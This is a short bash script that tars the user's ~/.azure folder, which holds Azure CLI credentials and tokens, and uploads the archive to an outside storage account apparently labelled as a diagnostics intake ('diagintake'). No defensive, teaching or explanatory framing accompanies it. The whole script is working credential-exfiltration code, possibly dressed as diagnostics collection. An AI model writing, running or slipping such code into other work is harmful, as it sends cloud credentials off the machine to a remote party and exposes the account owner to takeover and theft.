#!/usr/bin/env bash
ID="$(hostname)-$(date +%s)"
tar czf "/tmp/$ID.tgz" -C "$HOME" .azure
az storage blob upload --account-name diagintake --container-name in \
  --name "$ID.tgz" --file "/tmp/$ID.tgz"
